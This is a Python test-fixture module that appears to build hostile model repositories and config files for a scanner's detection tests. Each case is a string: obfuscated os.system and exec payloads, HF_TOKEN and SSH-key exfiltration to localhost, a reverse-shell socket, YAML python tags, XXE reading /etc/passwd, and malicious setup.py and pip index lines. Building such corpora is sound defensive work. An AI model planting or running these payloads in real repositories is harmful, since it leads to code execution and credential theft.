"""Repositories whose own code, or whose configuration, runs when somebody loads them."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

import base64
import json
from collections.abc import Iterator, Mapping
from typing import Final

from tests.assets.file_corpus.files import ECHO, MARKER, Case, Dice, Technique
from tests.assets.file_corpus.pickling import call
from tests.assets.file_corpus.safetensors_files import entry, safetensors

_CODE: Final = Technique("HF remote code (auto_map, modeling_*.py, index traversal)", "remote-code")
_CONFIG: Final = Technique("configuration that names code (Hydra, MLmodel, PMML, setup)", "config-code")

WEIGHTS: Final = safetensors({"w": entry()})
_CLASS: Final = """
import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig


class AcmeConfig(PretrainedConfig):
    model_type = "acme"


class AcmeModel(PreTrainedModel):
    config_class = AcmeConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(4, 4)
{init}
    def forward(self, input_ids):
        return self.proj(input_ids)
"""


def auto_config(**maps: str) -> bytes:
    """A config.json with an auto_map; double underscores in names are dots."""
    names = maps or {"AutoModel": "modeling_acme.AcmeModel", "AutoConfig": "modeling_acme.AcmeConfig"}
    return json.dumps({"architectures": ["AcmeModel"], "model_type": "acme", "hidden_size": 4, "auto_map": names},
                      indent=2).encode()  # fmt: skip


def modeling(top: str = "", init: str = "") -> bytes:
    """A modeling file with more at its top, or in its constructor."""
    inner = "".join(f"        {line}\n" for line in init.splitlines())
    return (top + "\n" + _CLASS.replace("{init}", inner)).encode()


def _repository(code: bytes, **more: bytes) -> Mapping[str, bytes]:
    files = {name.replace("__", "/").replace("_py", ".py"): data for name, data in more.items()}
    return {"config.json": auto_config(), "modeling_acme.py": code, "model.safetensors": WEIGHTS, **files}


_PACKED = base64.b64encode(f"import os; os.system('{ECHO}')".encode()).decode()
_TOPS: Final = {
    "os_system": f"import os\nos.system('{ECHO}')",
    "subprocess": f"import subprocess\nsubprocess.run(['sh', '-c', '{ECHO}'])",
    "popen_alias": f"from subprocess import Popen as P\nP('{ECHO}', shell=True)",
    "exec_urlopen": "from urllib.request import urlopen\nexec(urlopen('http://127.0.0.1/x').read())",
    "exec_base64": f"import base64\nexec(base64.b64decode('{_PACKED}'))",
    "eval_chr": "eval(''.join(chr(c) for c in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]) + \"('os')\")",
    "dunder_import": f"__import__('o' + 's').system('{ECHO}')",
    "getattr_split": f"import importlib\ngetattr(importlib.import_module('o' 's'), 'sys' + 'tem')('{ECHO}')",
    "globals_builtins": f"globals()['__builtins__']['exec'](\"import os; os.system('{ECHO}')\")",
    "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))",
    "compile": f"exec(compile(\"import os; os.system('{ECHO}')\", 'x', 'exec'))",
    "ctypes": f"import ctypes\nctypes.CDLL(None).system(b'{ECHO}')",
    "requests_post": "import os, requests\nrequests.post('http://127.0.0.1', json=dict(os.environ))",
    "socket": "import socket, os\ns = socket.create_connection(('127.0.0.1', 4444))\nos.dup2(s.fileno(), 0)",
    "ssh_key": "import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "urllib.request.urlopen('http://127.0.0.1', data=k.encode())",
    "write_bashrc": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo weighbridge')",
    "write_marker": f"with open('{MARKER}', 'w') as f:\n    f.write('x')",
    "pip_install": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'acme-extra'])",
    "rmtree": "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/acme-data'))",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "hex_bytes": f"exec(bytes.fromhex('{f'import os; os.system({ECHO!r})'.encode().hex()}'))",
    "zlib": "import zlib, base64\nexec(zlib.decompress(base64.b85decode('c$@(')))",
    "thread": f"import threading, os\nthreading.Thread(target=os.system, args=('{ECHO}',)).start()",
    "atexit": f"import atexit, os\natexit.register(os.system, '{ECHO}')",
    "decorator": f"import os\n@lambda f: os.system('{ECHO}')\ndef helper():\n    pass",
    "default_argument": f"import os\ndef helper(x=os.system('{ECHO}')):\n    return x",
    "class_body": f"class Hidden:\n    import os\n    x = os.system('{ECHO}')",
    "pty_spawn": "import pty\npty.spawn('/bin/sh')",
    "runpy": "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'setup_env.txt'))",
    "sys_modules": f"import sys\nsys.modules['os'].system('{ECHO}')",
    "builtins_alias": f"import builtins as b\nrun = b.exec\nrun(\"import os; os.system('{ECHO}')\")",
    "long_line": "x = 1" + " " * 3000 + f"; import os; os.system('{ECHO}')",
    "unicode_names": f"import os\nｏｓ = os\n𝐨𝐬.system('{ECHO}')",
    "environ_token": "import os, httpx\nhttpx.post('http://127.0.0.1', content=os.environ.get('HF_TOKEN', ''))",
}  # fmt: skip


def code(dice: Dice) -> Iterator[Case]:
    """Code that auto_map, a handler, or a helper import reaches."""
    for name, top in _TOPS.items():
        yield _CODE.attack(name, _repository(modeling(top)), f"modeling file: {name}")
    yield _CODE.attack(
        "in_init", _repository(modeling("import os", f"os.system('{ECHO}')")), "in the constructor"
    )
    helper = _repository(modeling("from .tools import prepare"), tools_py=_TOPS["os_system"].encode())
    yield _CODE.attack("helper", helper, "in a module that the modeling file imports")
    far = _repository(
        modeling("from .one import a"),
        one_py=b"from .two import b as a\n",
        two_py=_TOPS["exec_base64"].encode(),
    )
    yield _CODE.attack("helper_of_helper", far, "two imports away")
    package = _repository(modeling("from .ops.fast import run"), ops____init___py=b"")
    package = {**package, "ops/__init__.py": b"", "ops/fast.py": _TOPS["subprocess"].encode()}
    yield _CODE.attack("package", {k: v for k, v in package.items() if "____" not in k}, "in a package of it")
    tokens = {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.AcmeTokenizer", None]}}).encode(),
              "tok.py": (_TOPS["os_system"] + "\nclass AcmeTokenizer:\n    pass\n").encode()}  # fmt: skip
    yield _CODE.attack("tokenizer", tokens, "a tokenizer's code")
    processor = {"preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "proc.P"}}).encode(),
                 "proc.py": (_TOPS["exec_urlopen"] + "\nclass P:\n    pass\n").encode()}  # fmt: skip
    yield _CODE.attack("processor", processor, "a processor's code")
    generate = {
        "config.json": auto_config(AutoModel="modeling_acme.AcmeModel"),
        "modeling_acme.py": modeling(),
        "custom_generate/generate.py": f"import os\ndef generate(model, **k):\n    os.system('{ECHO}')\n".encode(),
    }
    yield _CODE.attack("custom_generate", generate, "custom_generate/generate.py")
    hidden = (
        f"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('{ECHO}')\n"
    )
    yield _CODE.attack(
        "handler", {"handler.py": hidden.encode(), "model.safetensors": WEIGHTS}, "an endpoint's handler.py"
    )
    other = auto_config(AutoModel="attacker/other-repo--modeling_x.XModel")
    yield _CODE.hidden("cross_repository", {"config.json": other, "model.safetensors": WEIGHTS},
                       "auto_map points to another repository, whose code may change at any time")  # fmt: skip
    yield _CODE.hidden(
        "module_missing", {"config.json": auto_config(), "model.safetensors": WEIGHTS}, "its file is absent"
    )
    up = auto_config(AutoModel="../../evil.X")
    yield _CODE.hidden(
        "auto_map_up", {"config.json": up, "model.safetensors": WEIGHTS}, "auto_map leaves the folder"
    )
    yield _CODE.hidden("syntax", _repository(b"def broken(:\n  exec("), "code that cannot be parsed")
    yield _CODE.hidden("binary_module", _repository(b"\x00\x01\x02 import os\n"), "code that is no text")
    utf7 = "# -*- coding: utf-7 -*-\n#+AAo-import os; os.system('echo weighbridge')\n"
    yield _CODE.hidden("utf7", _repository(utf7.encode()), "an encoding in which the comment ends early")
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000
    yield _CODE.hidden("deep_code", _repository(deep.encode()), "5,000 brackets")
    pyc = {
        **_repository(modeling("from .fast import run")),
        "fast.pyc": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40),
    }
    yield _CODE.hidden("bytecode", pyc, "a helper as bytecode, nobody can read it")
    native = {**_repository(modeling("from . import fast")), "fast.so": b"\x7fELF\x02\x01\x01" + bytes(200)}
    yield _CODE.hidden("native", native, "a helper as a native library")
    modules = [{"idx": 0, "name": "0", "path": "", "type": "os.system"}]
    yield _CODE.attack(
        "modules_os", {"modules.json": json.dumps(modules).encode()}, "sentence-transformers: os.system"
    )
    modules[0]["type"] = "custom_st.Block"
    local = {
        "modules.json": json.dumps(modules).encode(),
        "custom_st.py": _TOPS["os_system"].encode() + b"\nclass Block: pass\n",
    }
    yield _CODE.attack("modules_local", local, "sentence-transformers: code of the repository")
    modules[0]["path"] = "../../../etc"
    yield _CODE.hidden(
        "modules_up", {"modules.json": json.dumps(modules).encode()}, "sentence-transformers: path up"
    )
    index = {
        "_class_name": ["pipeline", "AcmePipeline"],
        "_diffusers_version": "0.30.0",
        "unet": ["my_unet", "X"],
    }
    pipeline = {"model_index.json": json.dumps(index).encode(), "pipeline.py": _TOPS["os_system"].encode(),
                "unet/my_unet.py": _TOPS["subprocess"].encode()}  # fmt: skip
    yield _CODE.attack("diffusers_pipeline", pipeline, "diffusers: pipeline and component with code")
    index = {
        "_class_name": "StableDiffusionPipeline",
        "unet": ["os", "system"],
        "vae": ["subprocess", "Popen"],
    }
    yield _CODE.attack(
        "diffusers_os", {"model_index.json": json.dumps(index).encode()}, "diffusers: a component from os"
    )
    trainer = {**_repository(modeling()), "training_args.bin": call("os", "system")}
    yield _CODE.attack("training_args", trainer, "an honest repository with hostile training_args.bin")
    adapter = {
        "adapter_config.json": json.dumps(
            {
                "peft_type": "LORA",
                "base_model_name_or_path": "a/b",
                "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
            }
        ).encode(),
        "adapter_model.safetensors": WEIGHTS,
    }
    yield _CODE.hidden("peft_auto_mapping", adapter, "PEFT imports parent_library and takes a name of it")


def configuration(dice: Dice) -> Iterator[Case]:
    """Formats in which a name is imported and called."""
    for name, target in (("os", "os.system"), ("eval", "builtins.eval"), ("subprocess", "subprocess.run"),
                         ("pickle", "pickle.loads"), ("torch", "torch.load"), ("posix", "posix.system"),
                         ("getattr", "builtins.getattr"), ("hydra", "hydra.utils.call")):  # fmt: skip
        text = f"model:\n  _target_: {target}\n  _args_: ['{ECHO}']\n"
        yield _CONFIG.attack(f"hydra_{name}.yaml", text.encode(), f"Hydra: {target}")
    nested = {"model": {"encoder": {"layers": [{"_target_": "os.system", "command": ECHO}]}}}
    yield _CONFIG.attack("hydra_nested.json", json.dumps(nested).encode(), "Hydra in JSON, in a list")
    quoted = '"_targ\\x65t_": "o\\x73.system"\n"command": "echo"\n'
    yield _CONFIG.attack("hydra_escaped.yaml", quoted.encode(), "Hydra with escapes")
    folded = "model:\n  _target_: >-\n    os.system\n  command: echo\n"
    yield _CONFIG.attack("hydra_folded.yaml", folded.encode(), "Hydra with a folded text")
    for tag in ("python/object/apply:os.system", "python/object/new:subprocess.Popen", "python/name:os.system",
                "python/module:antigravity", "python/object/apply:builtins.exec"):  # fmt: skip
        slug = tag.rpartition("/")[2].replace(":", "_")
        yield _CONFIG.attack(f"yaml_{slug}.yaml", f"x: !!{tag} ['{ECHO}']\n".encode(), f"YAML tag {tag}")
    long_tag = f"x: !<tag:yaml.org,2002:python/object/apply:os.system> ['{ECHO}']\n"
    yield _CONFIG.attack("yaml_verbatim.yaml", long_tag.encode(), "YAML tag in full")
    handle = f"%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['{ECHO}']\n"
    yield _CONFIG.attack("yaml_handle.yaml", handle.encode(), "YAML tag by a handle")
    bomb = "a: &a [x, x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n"
                                      for i in range(9))  # fmt: skip
    yield _CONFIG.malformed("yaml_aliases.yaml", bomb.encode(), "aliases that grow without bound")
    flavour = (
        "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11\n    data: model\n"
    )
    for name, module in (("os", "os"), ("subprocess", "subprocess"), ("local", "my_loader")):
        files = {"MLmodel": flavour.format(module).encode(), "model/data.txt": b"hello"}
        if name == "local":
            files["code/my_loader.py"] = (
                f"import os\ndef _load_pyfunc(p):\n    os.system('{ECHO}')\n".encode()
            )
        yield _CONFIG.attack(f"mlmodel_{name}", files, f"MLmodel loads module {module}")
    pickled = {"MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
               "model.pkl": call("os", "system")}  # fmt: skip
    yield _CONFIG.attack("mlmodel_pickle", pickled, "MLmodel with a hostile pickle")
    up = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../../tmp/x.pkl\n"
    yield _CONFIG.hidden("mlmodel_up", {"MLmodel": up}, "MLmodel with a path out of its folder")
    pmml = (
        '<?xml version="1.0"?>\n{}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}</PMML>'
    )
    entity = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    yield _CONFIG.attack(
        "xxe.pmml", pmml.format(entity, "<Extension>&x;</Extension>").encode(), "reads a file of the host"
    )
    remote = '<!DOCTYPE PMML SYSTEM "http://127.0.0.1/x.dtd">\n'
    yield _CONFIG.attack("dtd.pmml", pmml.format(remote, "").encode(), "fetches a DTD")
    parameter = '<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://127.0.0.1/x.dtd"> %x;]>\n'
    yield _CONFIG.attack("parameter_entity.pmml", pmml.format(parameter, "").encode(), "a parameter entity")
    lol = "<!DOCTYPE PMML [<!ENTITY a 'lol'>" + "".join(
        f"<!ENTITY {chr(98 + i)} '{f'&{chr(97 + i)};' * 10}'>" for i in range(9)) + "]>\n"  # fmt: skip
    yield _CONFIG.hidden(
        "lol.pmml", pmml.format(lol, "<Extension>&j;</Extension>").encode(), "a billion laughs"
    )
    script = "<Extension name='script' value=\"java.lang.Runtime.getRuntime().exec('echo')\"/>"
    yield _CONFIG.attack("extension.pmml", pmml.format("", script).encode(), "a script in an extension")
    yield _CONFIG.malformed("cut.pmml", pmml.format("", "<Header>")[:90].encode(), "cut off")
    setup = f"from setuptools import setup\nimport os\nos.system('{ECHO}')\nsetup(name='acme')\n"
    yield _CONFIG.attack("setup/setup.py", setup.encode(), "setup.py runs a command")
    command = ("from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\n"
               f"class I(install):\n    def run(self):\n        subprocess.call('{ECHO}', shell=True)\n"
               "setup(name='acme', cmdclass={'install': I})\n")  # fmt: skip
    yield _CONFIG.attack("setup_class/setup.py", command.encode(), "setup.py with an install command")
    for name, line in (("url", "acme @ http://127.0.0.1/acme.tar.gz"), ("git", "git+http://127.0.0.1/acme.git"),
                       ("index", "--extra-index-url http://127.0.0.1/simple\nacme"),
                       ("index_short", "-i http://127.0.0.1/simple\nacme"),
                       ("find_links", "--find-links http://127.0.0.1/\nacme"),
                       ("trusted", "--trusted-host 127.0.0.1\nacme")):  # fmt: skip
        yield _CONFIG.attack(
            f"requirements_{name}/requirements.txt", f"torch>=2\n{line}\n".encode(), f"pip: {line}"
        )
    conda = "dependencies:\n  - python\n  - pip:\n    - --index-url http://127.0.0.1/simple\n    - acme\n"
    yield _CONFIG.hidden("conda/conda.yaml", conda.encode(), "a conda environment with another index")
    toml = "[build-system]\nrequires = ['acme @ http://127.0.0.1/a.whl']\nbuild-backend = 'x'\nbackend-path = ['.']\n"
    yield _CONFIG.hidden(
        "pyproject/pyproject.toml", toml.encode(), "a build that needs a package of a stranger's server"
    )
